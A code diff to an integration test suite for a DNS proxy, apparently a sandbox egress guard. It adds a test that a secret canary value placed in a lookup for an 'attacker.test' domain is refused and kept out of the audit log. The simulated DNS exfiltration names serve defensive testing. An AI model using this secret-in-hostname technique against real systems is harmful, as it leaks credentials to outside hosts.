@@ -17,8 +17,10 @@ import dns.rcode
 import dns.rdatatype
 import pytest
 
+from sandgate.confdir import token_key
 from sandgate.explain import explain_name
 from sandgate.policy.loader import load_policy_dir
+from sandgate.tokens import canary
 from tests.integration.conftest import HERE, SANDGATE, Proxy, start_proxy, stop_proxy
 from tests.support.dnsrecorder import RecordingResolver
 
@@ -62,7 +64,7 @@ def dns_proxy(tmp_path_factory, vault, pki, recorder) -> Iterator[Proxy]:
                     "--identity-cidr", f"{AGENT}/32=agent",
                     "--identity-cidr", f"{FLOOD}/32=agent",
                     "--identity-cidr", "127.0.0.1/32=agent",  # glibc's queries come from here
-                    "--identity-cidr", f"{BASH}/32=bash-tool/sbx-bash")
+                    "--identity-cidr", f"{BASH}/32=bash-tool/sbx-bash", "--canary")
     yield p
     stop_proxy(p)
 
@@ -92,6 +94,20 @@ def test_denied_name_is_refused_audited_and_never_asked_upstream(dns_proxy, reco
                               and e.get("host") == "secret-data.attacker.test")
     assert ev["identity"] == "agent" and ev["client"] == AGENT and ev["decision"] == "deny"
     assert ev["code"] == "no_rule" and "could reach" in ev["reason"]
+
+
+def test_a_secret_value_in_a_name_is_scrubbed_from_the_audit(dns_proxy, recorder):
+    """A sandbox that holds a value (here the identity's canary, which --canary adds to what
+    is scrubbed) and puts it in a name: refused, never asked upstream, and not in the audit."""
+    value = canary(token_key(dns_proxy.confdir), "agent")
+    name = f"{value}.attacker.test"
+    assert ask(name).rcode() == dns.rcode.NXDOMAIN
+    ev = dns_proxy.wait_audit(lambda e: e.get("event") == "dns"
+                              and str(e.get("host", "")).endswith(".attacker.test")
+                              and "secret-data" not in str(e.get("host")))
+    assert ev["decision"] == "deny"
+    assert value not in dns_proxy.audit_file.read_text()
+    assert name not in recorder.names()
 
 
 def test_allowed_name_is_resolved_upstream_and_answered_bounded(dns_proxy, recorder):
